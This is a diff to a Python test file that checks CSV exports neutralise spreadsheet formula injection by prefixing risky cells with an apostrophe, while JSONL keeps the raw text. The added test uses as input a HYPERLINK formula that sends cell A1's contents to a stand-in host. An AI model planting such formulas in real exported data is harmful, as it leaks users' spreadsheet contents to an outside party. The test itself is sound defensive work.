@@ -257,13 +257,27 @@ def test_csv_has_a_bom_and_parses_back_with_chinese_intact() -> None:
     assert data.startswith(b"\xef\xbb\xbf")
     rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))
     assert list(rows[0]) == ["id", "knowledge", "original_filename", "pages", "chunk_index", "tokens", "content"]
-    assert [r["content"] for r in rows] == TRICKY
+    assert [r["content"] for r in rows] == [export.spreadsheet_text(t) for t in TRICKY]
+    assert [r["content"] for r in rows][2:] == ["'- a bullet\u2028next line", "'=1+1"]
     assert rows[0]["knowledge"] == "财务"
     assert rows[0]["original_filename"] == "年报 2024.pdf"
     assert [r["pages"] for r in rows[:2]] == ["3", "1, 2"]
     assert [r["chunk_index"] for r in rows] == ["0", "1", "2", "3"]
     assert rows[0]["id"] == str(uuid.UUID(int=1))
     assert rows[0]["tokens"] == "7"
+
+
+def test_csv_cells_that_would_run_as_formulas_are_text_and_jsonl_keeps_them() -> None:
+    attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+    hit = Hit(id=uuid.UUID(int=9), content=attack, score=1.0,
+              metadata={"knowledge": "+kb", "original_filename": "@evil.pdf", "pages": [1], "chunk_index": 0})
+    (row,) = csv.DictReader(io.StringIO(export.chunks_csv([hit]).decode("utf-8-sig"), newline=""))
+    assert (row["content"], row["knowledge"], row["original_filename"]) == ("'" + attack, "'+kb", "'@evil.pdf")
+    for harmless in ("营业收入", " =not at the start", "1,000", ""):
+        assert export.spreadsheet_text(harmless) == harmless
+    for starts in ("=", "+", "-", "@", "\t", "\r"):
+        assert export.spreadsheet_text(starts + "x") == "'" + starts + "x"
+    assert json.loads(export.chunks_jsonl([hit]))["content"] == attack
 
 
 def test_csv_and_jsonl_stream_in_blocks_from_a_generator() -> None:
